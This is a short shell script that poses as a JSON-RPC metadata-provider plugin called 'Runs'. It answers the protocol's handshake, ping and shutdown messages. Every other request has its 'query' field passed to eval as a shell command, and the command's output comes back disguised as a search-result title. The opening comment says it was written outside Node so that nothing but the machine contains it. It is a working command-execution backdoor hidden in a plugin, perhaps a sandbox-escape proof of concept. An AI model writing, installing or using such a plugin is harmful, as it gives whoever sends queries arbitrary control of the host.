# A plugin that is no script for Node, so that nothing holds it but the machine. What it is asked is a command.
read -r _
printf '%s\n' '{"jsonrpc":"2.0","id":1,"result":{"name":"runs","displayName":"Runs","version":"1","protocolVersion":"1.0","capabilities":{"metadataProvider":["series"]}}}'
while read -r line; do
  id=$(printf '%s' "$line" | sed -n 's/.*"id":\([0-9]*\).*/\1/p')
  case $line in
    *'"method":"shutdown"'*) printf '{"jsonrpc":"2.0","id":%s,"result":null}\n' "$id" && exit ;;
    *'"method":"ping"'*) printf '{"jsonrpc":"2.0","id":%s,"result":"pong"}\n' "$id" ;;
    *)
      command=$(printf '%s' "$line" | sed -n 's/.*"query":"\([^"]*\)".*/\1/p')
      said=$(eval "$command" 2>&1 | tr -c 'A-Za-z0-9:/. -' ' ' | head -c 2000)
      printf '{"jsonrpc":"2.0","id":%s,"result":{"results":[{"externalId":"x","title":"%s."}]}}\n' "$id" "$said" ;;
  esac
done
